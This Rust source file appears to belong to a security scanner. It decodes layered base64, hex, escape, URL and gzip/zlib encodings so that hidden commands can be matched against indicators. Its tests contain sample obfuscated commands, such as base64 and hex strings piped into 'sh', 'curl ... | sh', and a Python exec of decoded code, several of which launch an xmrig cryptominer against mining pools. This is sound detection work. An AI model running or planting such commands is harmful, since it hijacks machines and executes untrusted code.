//! Decoding what attackers hide: base64 (standard and URL-safe, padded or not), hex runs
//! (`786d7269...`, `0x...`), backslash escapes (`printf '\x78\x6d'`, `"\u0078"`, `\170`) and
//! URL escapes (`%78%6d`). The analyser matches the indicator catalogue against every layer
//! this returns, so `echo eG1yaWc... | base64 -d | sh` is seen as `xmrig ...`.
//!
//! Bounded: every pass over a text is linear; a layer holds at most `max_layer_bytes` (a longer
//! run is cut, with a note), all layers together at most `max_total_bytes`, there are at most
//! `max_layers` of them and recursion stops at `max_depth` (with a note). A layer is kept only
//! when it decodes to valid UTF-8 that is mostly printable text, so identifiers, paths, image
//! digests and binary blobs do not turn into junk layers. Never panics.

use base64::alphabet;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine;
use std::ops::Range;

/// Budgets of [`decode_layers`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Deepest layer decoded (1 = decoded from the original text).
    pub max_depth: usize,
    /// Most bytes one layer holds; a longer encoded run is cut (with a note).
    pub max_layer_bytes: usize,
    /// Most decoded bytes of all layers together.
    pub max_total_bytes: usize,
    /// Shortest base64 run considered.
    pub min_base64_run: usize,
    /// Most layers.
    pub max_layers: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_depth: 4,
            max_layer_bytes: 1 << 20,
            max_total_bytes: 4 << 20,
            min_base64_run: 16,
            max_layers: 64,
        }
    }
}

/// One decoded payload.
#[derive(Debug, Clone)]
pub struct Layer {
    /// "base64", "hex", "escapes" (`\x78`, `\u0078`, `\170`) or "url" (`%78`).
    pub via: &'static str,
    /// 1 = decoded from the original text.
    pub depth: usize,
    /// Index (in [`Decoded::layers`]) of the layer it was decoded from; None = the original
    /// text. Always smaller than this layer's own index.
    pub parent: Option<usize>,
    /// Byte range of the encoded run in the parent text.
    pub range: Range<usize>,
    /// Decoded text (valid UTF-8, mostly printable).
    pub text: String,
}

/// Every decoded layer of a text, and notes on budgets that stopped decoding.
#[derive(Debug, Clone, Default)]
pub struct Decoded {
    pub layers: Vec<Layer>,
    pub notes: Vec<String>,
}

const B64_CONFIG: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const B64_STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, B64_CONFIG);
const B64_URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, B64_CONFIG);

/// Shortest escape / URL-escape sequence count that makes a region.
const MIN_ESCAPES: usize = 4;
/// Most plain bytes between two escapes of one region (`printf '\x78\x6d -o \x70...'`).
const MAX_ESCAPE_GAP: usize = 8;
/// Shortest hex run (in hex digits).
const MIN_HEX_RUN: usize = 16;
/// Shortest decoded text kept (in chars).
const MIN_TEXT_CHARS: usize = 4;

/// The decoded layers of `text`, breadth first: the layers decoded from `text` itself, then
/// those decoded from them, and so on.
pub fn decode_layers(text: &str, limits: &Limits) -> Decoded {
    let mut st = State {
        limits,
        out: Decoded::default(),
        total: 0,
        noted_depth: false,
        noted_budget: false,
        noted_layers: false,
        stopped: false,
    };
    st.scan(text, None, 0);
    let mut i = 0;
    while i < st.out.layers.len() && !st.stopped {
        let t = std::mem::take(&mut st.out.layers[i].text);
        let depth = st.out.layers[i].depth;
        st.scan(&t, Some(i), depth);
        st.out.layers[i].text = t;
        i += 1;
    }
    st.out
}

struct State<'a> {
    limits: &'a Limits,
    out: Decoded,
    total: usize,
    noted_depth: bool,
    noted_budget: bool,
    noted_layers: bool,
    /// A global budget is spent: nothing more is decoded.
    stopped: bool,
}

/// An encoded run found in a text.
struct Run {
    via: &'static str,
    range: Range<usize>,
}

impl State<'_> {
    /// Decodes every run in `text` (a text at `depth`) into layers at `depth + 1`.
    fn scan(&mut self, text: &str, parent: Option<usize>, depth: usize) {
        // A run of hex digits is valid base64 too: once it decoded as hex, not again.
        let mut hex_kept: Option<Range<usize>> = None;
        for run in find_runs(text, self.limits) {
            if self.stopped {
                return;
            }
            if let Some(h) = &hex_kept {
                if run.via == "base64" && run.range.start < h.end && h.start < run.range.end {
                    continue;
                }
            }
            let Some((decoded, cut, via)) = decode_run(text, &run, self.limits) else {
                continue;
            };
            if depth + 1 > self.limits.max_depth {
                if !self.noted_depth {
                    self.noted_depth = true;
                    self.out.notes.push(format!(
                        "decoding stopped at depth {}: a layer decoded {} deep still holds {} text",
                        self.limits.max_depth, self.limits.max_depth, run.via
                    ));
                }
                return; // nothing more to do in this layer
            }
            if self.out.layers.len() >= self.limits.max_layers {
                if !self.noted_layers {
                    self.noted_layers = true;
                    self.out.notes.push(format!(
                        "decoded layers limit ({}) reached; later encoded runs were not decoded",
                        self.limits.max_layers
                    ));
                }
                self.stopped = true;
                return;
            }
            if self.total.saturating_add(decoded.len()) > self.limits.max_total_bytes {
                if !self.noted_budget {
                    self.noted_budget = true;
                    self.out.notes.push(format!(
                        "decoded bytes budget ({}) exhausted; later encoded runs were not decoded",
                        human(self.limits.max_total_bytes)
                    ));
                }
                self.stopped = true;
                return;
            }
            if cut {
                self.out.notes.push(format!(
                    "{} run at bytes {}..{} ({}) cut to {} decoded",
                    run.via,
                    run.range.start,
                    run.range.end,
                    human(run.range.len()),
                    human(self.limits.max_layer_bytes)
                ));
            }
            self.total += decoded.len();
            if run.via == "hex" {
                hex_kept = Some(run.range.clone());
            }
            self.out.layers.push(Layer {
                via,
                depth: depth + 1,
                parent,
                range: run.range,
                text: decoded,
            });
        }
    }
}

fn human(n: usize) -> String {
    if n >= 1 << 20 && n & ((1 << 20) - 1) == 0 {
        format!("{} MiB", n >> 20)
    } else if n >= 1 << 20 {
        format!("{:.1} MiB", n as f64 / (1u64 << 20) as f64)
    } else if n >= 1 << 10 {
        format!("{} KiB", n >> 10)
    } else {
        format!("{n} bytes")
    }
}

fn is_b64(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_')
}

/// Every candidate run of `text`, in order: escape regions, URL-escape regions, and base64 /
/// hex word runs. One linear pass each.
fn find_runs(text: &str, limits: &Limits) -> Vec<Run> {
    let b = text.as_bytes();
    let mut runs = Vec::new();
    escape_regions(b, b'\\', "escapes", &mut runs);
    escape_regions(b, b'%', "url", &mut runs);

    let mut i = 0;
    while i < b.len() {
        if !is_b64(b[i]) {
            i += 1;
            continue;
        }
        let s = i;
        while i < b.len() && is_b64(b[i]) {
            i += 1;
        }
        let mut e = i;
        let mut pad = 0;
        while e < b.len() && b[e] == b'=' && pad < 2 {
            e += 1;
            pad += 1;
        }
        i = e;
        if pad == 0 {
            if let Some(end) = wrapped_end(b, s, e) {
                // Base64 wrapped at a fixed width (GNU `base64`: 76): one run over the lines.
                runs.push(Run {
                    via: "base64",
                    range: s..end,
                });
                i = end;
                continue;
            }
        }
        word_run(b, s, e - pad, e, limits, &mut runs);
    }
    runs.sort_by_key(|r| r.range.start);
    runs
}

/// Shortest line width of wrapped base64 that is joined (GNU `base64` wraps at 76, OpenSSL and
/// PEM at 64).
const MIN_WRAP_WIDTH: usize = 40;
/// Most lines of one wrapped base64 run (a longer run is decoded in parts).
const MAX_WRAP_LINES: usize = 1 << 16;

/// When the standard-base64 line `b[s..e]` (no padding) is the first of a run wrapped at its
/// width (at least [`MIN_WRAP_WIDTH`], a multiple of 4) and continued on the next line(s), after
/// a newline and indentation: the end of the whole run (padding included). Every line but the
/// last has exactly the first line's width; the last is at most as long. Linear, bounded.
fn wrapped_end(b: &[u8], s: usize, e: usize) -> Option<usize> {
    let std_b64 = |c: u8| c.is_ascii_alphanumeric() || c == b'+' || c == b'/';
    let width = e - s;
    if width < MIN_WRAP_WIDTH || !width.is_multiple_of(4) || !b[s..e].iter().all(|&c| std_b64(c)) {
        return None;
    }
    let mut end = e;
    let mut lines = 1;
    loop {
        // The next line: newline, indentation, then a run that fills the rest of it.
        let mut k = end;
        if b.get(k) == Some(&b'\r') {
            k += 1;
        }
        if b.get(k) != Some(&b'\n') {
            break;
        }
        k += 1;
        while k < b.len() && matches!(b[k], b' ' | b'\t') {
            k += 1;
        }
        let ls = k;
        while k < b.len() && std_b64(b[k]) {
            k += 1;
        }
        let len = k - ls;
        let mut pe = k;
        while pe < b.len() && b[pe] == b'=' && pe - k < 2 {
            pe += 1;
        }
        let line_ends = pe == b.len() || matches!(b[pe], b'\n' | b'\r' | b'"' | b'\'');
        if len == 0 || len > width || !line_ends || lines >= MAX_WRAP_LINES {
            break;
        }
        end = pe;
        lines += 1;
        if len < width || pe > k {
            break; // the last line
        }
    }
    (lines > 1).then_some(end)
}

/// A maximal run of base64/hex characters `b[s..body_end]`, padding up to `e`.
fn word_run(b: &[u8], s: usize, body_end: usize, e: usize, limits: &Limits, runs: &mut Vec<Run>) {
    let body = &b[s..body_end];
    if body.len() < MIN_HEX_RUN.min(limits.min_base64_run) {
        return;
    }
    // An image digest (`@sha256:...`) or other hash label is never a payload.
    let before = &b[..s];
    let lower_tail: Vec<u8> = before[before.len().saturating_sub(8)..]
        .iter()
        .map(u8::to_ascii_lowercase)
        .collect();
    if [
        &b"sha256:"[..],
        b"sha512:",
        b"sha384:",
        b"sha1:",
        b"md5:",
        b"sha224:",
    ]
    .iter()
    .any(|p| lower_tail.ends_with(p))
    {
        return;
    }
    // Hex, possibly 0x-prefixed.
    let (hs, hex_body) = if body.len() > 2 && (body.starts_with(b"0x") || body.starts_with(b"0X")) {
        (s + 2, &body[2..])
    } else {
        (s, body)
    };
    if hex_body.len() >= MIN_HEX_RUN
        && hex_body.len() & 1 == 0
        && hex_body.iter().all(u8::is_ascii_hexdigit)
        && body_end == e
    {
        runs.push(Run {
            via: "hex",
            range: hs..body_end,
        });
        // The same run may still be base64 (a run of hex digits is valid base64); the
        // decoder keeps whichever decodes to text, hex first.
    }
    let has_std = body.iter().any(|&c| c == b'+' || c == b'/');
    let has_url = body.iter().any(|&c| c == b'-' || c == b'_');
    if has_std && has_url {
        // Mixed alphabets: the parts between `-`/`_` as standard base64.
        let mut p = s;
        while p < body_end {
            while p < body_end && matches!(b[p], b'-' | b'_') {
                p += 1;
            }
            let q = (p..body_end)
                .find(|&k| matches!(b[k], b'-' | b'_'))
                .unwrap_or(body_end);
            let end = if q == body_end { e } else { q };
            base64_run(b, p, q, end, limits, runs);
            p = q;
        }
        return;
    }
    // Leading dashes/underscores are flag or identifier punctuation.
    let mut s = s;
    while s < body_end && matches!(b[s], b'-' | b'_') {
        s += 1;
    }
    base64_run(b, s, body_end, e, limits, runs);
}

fn base64_run(b: &[u8], s: usize, body_end: usize, e: usize, limits: &Limits, runs: &mut Vec<Run>) {
    let body = &b[s..body_end];
    if body.len() < limits.min_base64_run.max(4) {
        return;
    }
    // Not a plain word or identifier: a digit, `+`, `/`, `=` or mixed case.
    let digit = body.iter().any(u8::is_ascii_digit);
    let sym = body.iter().any(|&c| c == b'+' || c == b'/') || e > body_end;
    let mixed = body.iter().any(u8::is_ascii_uppercase) && body.iter().any(u8::is_ascii_lowercase);
    if !(digit || sym || mixed) {
        return;
    }
    runs.push(Run {
        via: "base64",
        range: s..e,
    });
}

/// Regions of `\x78`-style (or `%78`-style) escapes with at most a few plain bytes between them.
fn escape_regions(b: &[u8], lead: u8, via: &'static str, runs: &mut Vec<Run>) {
    let mut i = 0;
    while i < b.len() {
        if b[i] != lead {
            i += 1;
            continue;
        }
        let Some((_, len)) = escape_at(b, i, lead) else {
            i += 1;
            continue;
        };
        let start = i;
        let mut end = i + len;
        let mut count = usize::from(is_counted_escape(b, i, lead));
        let mut j = end;
        loop {
            // Skip at most MAX_ESCAPE_GAP plain bytes.
            let mut gap = 0;
            let mut k = j;
            while k < b.len() && gap <= MAX_ESCAPE_GAP {
                if b[k] == lead {
                    break;
                }
                if matches!(b[k], b'\'' | b'"' | b'\n' | b'\r' | b'`') {
                    gap = MAX_ESCAPE_GAP + 1;
                    break;
                }
                k += 1;
                gap += 1;
            }
            if gap > MAX_ESCAPE_GAP || k >= b.len() {
                break;
            }
            match escape_at(b, k, lead) {
                Some((_, len)) => {
                    count += usize::from(is_counted_escape(b, k, lead));
                    end = k + len;
                    j = end;
                }
                None => break,
            }
        }
        if count >= MIN_ESCAPES {
            runs.push(Run {
                via,
                range: start..end,
            });
        }
        i = end.max(i + 1);
    }
}

/// Whether the escape at `i` encodes a byte/char value (not `\n`, `\\`, ...).
fn is_counted_escape(b: &[u8], i: usize, lead: u8) -> bool {
    lead == b'%' || matches!(b.get(i + 1), Some(b'x' | b'u' | b'0'..=b'7'))
}

fn hex_val(c: u8) -> Option<u32> {
    (c as char).to_digit(16)
}

/// The escape at `b[i]` (which is `lead`): its decoded bytes and its length.
fn escape_at(b: &[u8], i: usize, lead: u8) -> Option<(Vec<u8>, usize)> {
    let h2 = |k: usize| -> Option<u8> {
        let hi = hex_val(*b.get(k)?)?;
        let lo = hex_val(*b.get(k + 1)?)?;
        Some((hi * 16 + lo) as u8)
    };
    if lead == b'%' {
        return h2(i + 1).map(|v| (vec![v], 3));
    }
    match *b.get(i + 1)? {
        b'x' => h2(i + 2).map(|v| (vec![v], 4)),
        b'u' => {
            let mut v = 0u32;
            for k in 0..4 {
                v = v * 16 + hex_val(*b.get(i + 2 + k)?)?;
            }
            let c = char::from_u32(v)?;
            let mut buf = [0u8; 4];
            Some((c.encode_utf8(&mut buf).as_bytes().to_vec(), 6))
        }
        c @ b'0'..=b'3' => {
            let d1 = *b.get(i + 2)?;
            let d2 = *b.get(i + 3)?;
            if !(b'0'..=b'7').contains(&d1) || !(b'0'..=b'7').contains(&d2) {
                return None;
            }
            let v = (c - b'0') * 64 + (d1 - b'0') * 8 + (d2 - b'0');
            Some((vec![v], 4))
        }
        b'n' => Some((vec![b'\n'], 2)),
        b't' => Some((vec![b'\t'], 2)),
        b'r' => Some((vec![b'\r'], 2)),
        b'\\' => Some((vec![b'\\'], 2)),
        _ => None,
    }
}

/// Decodes a run; Some((text, cut, how)) when it is mostly printable text. A run that decodes
/// to gzip or zlib data (`base64 -d | gunzip | sh`) is inflated, within the same byte limit.
fn decode_run(text: &str, run: &Run, limits: &Limits) -> Option<(String, bool, &'static str)> {
    let b = &text.as_bytes()[run.range.clone()];
    let max = limits.max_layer_bytes.max(4);
    let (bytes, cut) = match run.via {
        "hex" => {
            let n = b.len().min(max.saturating_mul(2)) & !1;
            let mut out = Vec::with_capacity(n / 2);
            for pair in b[..n].chunks_exact(2) {
                out.push((hex_val(pair[0])? * 16 + hex_val(pair[1])?) as u8);
            }
            (out, n < b.len())
        }
        "base64" => {
            let body_len = b.iter().position(|&c| c == b'=').unwrap_or(b.len());
            // A wrapped run: the line breaks and indentation dropped (bounded by the cut below).
            let joined: Vec<u8>;
            let body = if b[..body_len].iter().any(u8::is_ascii_whitespace) {
                joined = b[..body_len]
                    .iter()
                    .copied()
                    .filter(|c| !c.is_ascii_whitespace())
                    .take(max / 3 * 4 + 4)
                    .collect();
                &joined[..]
            } else {
                &b[..body_len]
            };
            let max_in = max / 3 * 4;
            let (input, cut) = if body.len() > max_in {
                (&body[..max_in], true)
            } else if body.len() % 4 == 1 {
                (&body[..body.len() - 1], false)
            } else {
                (body, false)
            };
            let url = input.iter().any(|&c| c == b'-' || c == b'_');
            let engine = if url { &B64_URL_SAFE } else { &B64_STANDARD };
            (engine.decode(input).ok()?, cut)
        }
        _ => {
            // Escapes / URL escapes: escapes decoded, plain bytes kept.
            let lead = if run.via == "url" { b'%' } else { b'\\' };
            let mut out = Vec::with_capacity(b.len().min(max));
            let mut k = 0;
            while k < b.len() && out.len() < max {
                if b[k] == lead {
                    if let Some((v, len)) = escape_at(b, k, lead) {
                        out.extend_from_slice(&v);
                        k += len;
                        continue;
                    }
                }
                out.push(if lead == b'%' && b[k] == b'+' {
                    b' '
                } else {
                    b[k]
                });
                k += 1;
            }
            (out, k < b.len())
        }
    };
    let (bytes, cut, via) = match inflate(&bytes, max) {
        Some((inflated, inflate_cut, how)) => {
            (inflated, cut || inflate_cut, compressed_via(run.via, how))
        }
        None => (bytes, cut, run.via),
    };
    let s = String::from_utf8(bytes).ok()?;
    printable_text(&s).then_some((s, cut, via))
}

/// gzip (`1f 8b`) or zlib (`78 01|5e|9c|da`) data inflated to at most `max` bytes: (bytes,
/// whether it was cut, which format). `None` when the data is neither or does not inflate.
fn inflate(data: &[u8], max: usize) -> Option<(Vec<u8>, bool, &'static str)> {
    use std::io::Read;
    let (reader, how): (Box<dyn Read + '_>, &'static str) = match data {
        [0x1f, 0x8b, ..] => (Box::new(flate2::read::GzDecoder::new(data)), "gzip"),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
            (Box::new(flate2::read::ZlibDecoder::new(data)), "zlib")
        }
        _ => return None,
    };
    // Read one byte past the limit to know whether it was cut; a bomb stops there.
    let mut out = Vec::new();
    reader.take(max as u64 + 1).read_to_end(&mut out).ok()?;
    let cut = out.len() > max;
    out.truncate(max);
    Some((out, cut, how))
}

fn compressed_via(via: &'static str, how: &'static str) -> &'static str {
    match (via, how) {
        ("base64", "gzip") => "base64+gzip",
        ("base64", _) => "base64+zlib",
        ("hex", "gzip") => "hex+gzip",
        ("hex", _) => "hex+zlib",
        (_, "gzip") => "escapes+gzip",
        _ => "escapes+zlib",
    }
}

/// At least [`MIN_TEXT_CHARS`] chars, at least 90% of them printable (or `\n`, `\r`, `\t`).
fn printable_text(s: &str) -> bool {
    let mut total = 0usize;
    let mut bad = 0usize;
    for c in s.chars() {
        total += 1;
        if c.is_control() && !matches!(c, '\n' | '\r' | '\t') || c == '\u{FFFD}' {
            bad += 1;
        }
    }
    total >= MIN_TEXT_CHARS && bad * 10 <= total
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

    fn layers(text: &str) -> Decoded {
        decode_layers(text, &Limits::default())
    }

    fn texts(d: &Decoded) -> Vec<(&'static str, usize, &str)> {
        d.layers
            .iter()
            .map(|l| (l.via, l.depth, l.text.as_str()))
            .collect()
    }

    #[test]
    fn defaults() {
        let l = Limits::default();
        assert_eq!(
            (
                l.max_depth,
                l.max_layer_bytes,
                l.max_total_bytes,
                l.min_base64_run,
                l.max_layers
            ),
            (4, 1 << 20, 4 << 20, 16, 64)
        );
    }

    #[test]
    fn echo_base64_pipe_sh() {
        let t = "echo eG1yaWcgLW8gcG9vbC5zdXBwb3J0eG1yLmNvbTo0NDM= | base64 -d | sh";
        let d = layers(t);
        assert_eq!(d.layers.len(), 1, "{d:?}");
        let l = &d.layers[0];
        assert_eq!(l.via, "base64");
        assert_eq!(l.depth, 1);
        assert_eq!(l.parent, None);
        assert_eq!(l.text, "xmrig -o pool.supportxmr.com:443");
        assert_eq!(
            &t[l.range.clone()],
            "eG1yaWcgLW8gcG9vbC5zdXBwb3J0eG1yLmNvbTo0NDM="
        );
        assert!(d.notes.is_empty());
    }

    #[test]
    fn double_encoded() {
        let inner = STANDARD.encode("xmrig -o pool.example:3333");
        let outer = STANDARD.encode(format!("echo {inner} | base64 -d | sh"));
        let d = layers(&format!("sh -c \"echo {outer} | base64 -d | sh\""));
        let t = texts(&d);
        assert_eq!(t.len(), 2, "{t:?}");
        assert_eq!(t[1], ("base64", 2, "xmrig -o pool.example:3333"));
        assert_eq!(d.layers[1].parent, Some(0));
    }

    #[test]
    fn python_exec_b64decode() {
        let payload = STANDARD.encode("import os; os.system('./xmrig -o x')");
        let t = format!("python3 -c \"import base64;exec(base64.b64decode('{payload}'))\"");
        let d = layers(&t);
        assert!(texts(&d)
            .iter()
            .any(|(v, _, x)| *v == "base64" && x.contains("./xmrig")));
    }

    #[test]
    fn url_safe_unpadded() {
        let payload = URL_SAFE_NO_PAD.encode("curl http://x/?a=1 | sh #>>>???");
        assert!(payload.contains('-') || payload.contains('_'), "{payload}");
        let d = layers(&format!("X={payload}"));
        assert_eq!(d.layers[0].text, "curl http://x/?a=1 | sh #>>>???");
    }

    #[test]
    fn escapes() {
        let d = layers(r"printf '\x78\x6d\x72\x69\x67' > /tmp/n");
        assert_eq!(texts(&d), vec![("escapes", 1, "xmrig")]);
        let d = layers(r#"s = "\u0078\u006d\u0072\u0069\u0067""#);
        assert_eq!(texts(&d), vec![("escapes", 1, "xmrig")]);
        let d = layers(r"printf '\170\155\162\151\147 -o x'");
        assert_eq!(texts(&d), vec![("escapes", 1, "xmrig")]);
        let d = layers("wget http://h/%78%6d%72%69%67");
        assert_eq!(texts(&d), vec![("url", 1, "xmrig")]);
        // Too few escapes, or an ordinary path with a backslash.
        assert!(layers(r"C:\x64\build").layers.is_empty());
        assert!(layers(r"a\nb\tc").layers.is_empty());
    }

    #[test]
    fn hex() {
        let d = layers("echo 786d726967202d6f | xxd -r -p | sh");
        assert_eq!(texts(&d), vec![("hex", 1, "xmrig -o")]);
        let d = layers("0x786d726967202d6f");
        assert_eq!(texts(&d), vec![("hex", 1, "xmrig -o")]);
    }

    #[test]
    fn near_misses() {
        for t in [
            "image: nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31",
            "image: nginx@SHA256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31",
            "uid: 3f2a6b1c-9d4e-4f5a-8b7c-1d2e3f4a5b6c",
            "supercalifragilisticexpialidocious antidisestablishmentarianism",
            "/usr/local/lib/python3.11/site-packages/tensorflow",
            "resourceVersion: 1234567890123456",
            "ServiceAccountTokenProjection and PodSecurityAdmission",
            "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
        ] {
            let d = layers(t);
            assert!(d.layers.is_empty(), "{t}: {:?}", d.layers);
        }
        // A JWT-looking token decodes to JSON: fine, but no crash.
        let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
        let d = layers(jwt);
        assert!(d.layers.iter().any(|l| l.text.contains("\"alg\"")), "{d:?}");
    }

    #[test]
    fn depth_limit_note() {
        let mut s = "xmrig -o pool.example:3333".to_string();
        for _ in 0..10 {
            s = STANDARD.encode(&s);
        }
        let d = layers(&s);
        assert_eq!(d.layers.iter().map(|l| l.depth).max(), Some(4));
        assert!(
            d.notes.iter().any(|n| n.contains("depth 4")),
            "{:?}",
            d.notes
        );
        for (i, l) in d.layers.iter().enumerate() {
            assert!(l.parent.is_none_or(|p| p < i));
        }
    }

    #[test]
    fn huge_run_is_cut() {
        let plain = "xmrig -o pool.example:3333 ".repeat((7 << 20) / 27);
        let enc = STANDARD.encode(&plain);
        assert!(enc.len() > 9 << 20);
        let d = layers(&enc);
        assert_eq!(d.layers.len(), 1);
        assert!(d.layers[0].text.len() <= 1 << 20);
        assert!(d.layers[0].text.starts_with("xmrig -o"));
        assert!(
            d.notes.iter().any(|n| n.contains("cut to 1 MiB")),
            "{:?}",
            d.notes
        );
    }

    #[test]
    fn total_budget_note() {
        let limits = Limits {
            max_total_bytes: 100,
            ..Limits::default()
        };
        let one = STANDARD.encode("xmrig -o pool.example:3333 --donate-level 1");
        let text = vec![one; 10].join(" ");
        let d = decode_layers(&text, &limits);
        assert!(d.layers.len() < 10);
        assert!(
            d.notes.iter().any(|n| n.contains("budget")),
            "{:?}",
            d.notes
        );
        let limits = Limits {
            max_layers: 3,
            ..Limits::default()
        };
        let d = decode_layers(&text, &limits);
        assert_eq!(d.layers.len(), 3);
        assert!(
            d.notes.iter().any(|n| n.contains("limit (3)")),
            "{:?}",
            d.notes
        );
    }

    #[test]
    fn never_panics_on_odd_input() {
        let mut nested = "QUFB".to_string();
        for _ in 0..50 {
            if nested.len() > 1 << 20 {
                break;
            }
            nested = STANDARD.encode(&nested);
        }
        let odd: Vec<String> = vec![
            String::new(),
            "=".into(),
            "==".into(),
            "\\".into(),
            "\\x".into(),
            "\\u12".into(),
            "%".into(),
            "%4".into(),
            "0x".into(),
            "/////////////////////////".into(),
            "++++++++++++++++++++++++".into(),
            "________________--------".into(),
            "//////79/////==========".into(),
            // Base64 that decodes to invalid UTF-8.
            STANDARD.encode([
                0xff, 0xfe, 0xfd, 0x80, 0x81, 0x82, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28,
            ]),
            // Hex escapes of invalid UTF-8.
            "\\xff\\xfe\\xc3\\x28\\xa0".into(),
            "\\ud800\\ud800\\ud800\\ud800".into(),
            "é\\x78é\\x6dé\\x72é\\x69".into(),
            "A".repeat(10 << 20),
            "Ab1".repeat(1 << 20),
            "QUFB".repeat(50),
            nested,
            "ééééééééééééééééééééééé".into(),
        ];
        for t in &odd {
            let d = decode_layers(t, &Limits::default());
            for l in &d.layers {
                assert!(l.text.len() <= 1 << 20);
                assert!(l.depth >= 1 && l.depth <= 4);
            }
        }
        let tiny = Limits {
            max_depth: 0,
            max_layer_bytes: 0,
            max_total_bytes: 0,
            min_base64_run: 0,
            max_layers: 0,
        };
        for t in &odd {
            let _ = decode_layers(&t[..t.len().min(4096)], &tiny);
        }
    }

    #[test]
    fn wrapped_base64_is_joined() {
        let plain = "#!/bin/sh\n# setup helper for the data loader, do not edit\nxmrig -o 203.0.113.99:443 -u rig1 -p x -k -B\n";
        let enc = STANDARD.encode(plain);
        let lines: Vec<&str> = enc
            .as_bytes()
            .chunks(76)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        assert!(lines.len() >= 2);
        for indent in ["", "    ", "\t  "] {
            let block = lines
                .iter()
                .map(|l| format!("{indent}{l}"))
                .collect::<Vec<_>>()
                .join("\n");
            let t = format!("boot.sh: |\n{indent}base64 -d <<'EOF2' | sh\n{block}\n{indent}EOF2\n");
            let d = layers(&t);
            assert!(
                d.layers.iter().any(|l| l.text == plain),
                "{indent:?}: {d:?}"
            );
        }
        // CRLF line ends too.
        let t = format!("{}\r\n", lines.join("\r\n"));
        assert!(layers(&t).layers.iter().any(|l| l.text == plain));
    }

    #[test]
    fn unrelated_lines_are_not_joined() {
        let a = STANDARD.encode("first line of text that is long enough for a run..");
        let b = STANDARD.encode("second one");
        // Neither wrapped at a width (different widths, the first not a multiple of 4 or short).
        let t = format!("{a}=\n{b}");
        let d = layers(&t);
        assert!(
            d.layers
                .iter()
                .all(|l| !l.text.contains("second one") || l.text == "second one"),
            "{d:?}"
        );
        // The marker after a short last line stays out.
        let plain = "echo hello from a wrapped payload that spans two lines of base64 output ok";
        let enc = STANDARD.encode(plain);
        let (l1, l2) = enc.split_at(76);
        let t = format!("{l1}\n{l2}\nEOF2\n");
        let d = layers(&t);
        assert!(d.layers.iter().any(|l| l.text == plain), "{d:?}");
        // Short lines (a list of ids) are never joined.
        let ids = "QUJDREVGR0hJSktMTU5PUA1\nQUJDREVGR0hJSktMTU5PUA2\n";
        for l in &layers(ids).layers {
            assert!(!l.text.contains('\n') || l.range.len() < 30, "{l:?}");
        }
    }

    #[test]
    fn gzip_and_zlib_layers_are_inflated_within_the_limit() {
        use flate2::write::{GzEncoder, ZlibEncoder};
        use flate2::Compression;
        use std::io::Write;
        let payload = "xmrig -o pool.example.invalid:3333 --donate-level 1";
        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
        gz.write_all(payload.as_bytes()).unwrap();
        let t = format!(
            "echo {} | base64 -d | gunzip | sh",
            STANDARD.encode(gz.finish().unwrap())
        );
        let d = layers(&t);
        assert_eq!(texts(&d), vec![("base64+gzip", 1, payload)], "{d:?}");
        let mut z = ZlibEncoder::new(Vec::new(), Compression::default());
        z.write_all(payload.as_bytes()).unwrap();
        let t = format!(
            "python -c \"exec(zlib.decompress(base64.b64decode('{}')))\"",
            STANDARD.encode(z.finish().unwrap())
        );
        assert_eq!(texts(&layers(&t)), vec![("base64+zlib", 1, payload)]);
        // A gzip bomb (64 MiB of spaces and text) inflates only to the layer limit, with a note.
        let mut bomb = GzEncoder::new(Vec::new(), Compression::best());
        for _ in 0..(64 * 1024) {
            bomb.write_all(&[b'a'; 1024]).unwrap();
        }
        let t = format!(
            "echo {} | base64 -d | gunzip",
            STANDARD.encode(bomb.finish().unwrap())
        );
        let d = layers(&t);
        assert_eq!(d.layers.len(), 1);
        assert_eq!(d.layers[0].text.len(), Limits::default().max_layer_bytes);
        assert!(
            d.notes.iter().any(|n| n.contains("cut to")),
            "{:?}",
            d.notes
        );
        // Truncated gzip data is not a layer, and never a panic.
        let t = format!(
            "echo {} | base64 -d",
            STANDARD.encode([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3])
        );
        assert!(layers(&t).layers.is_empty());
    }
}
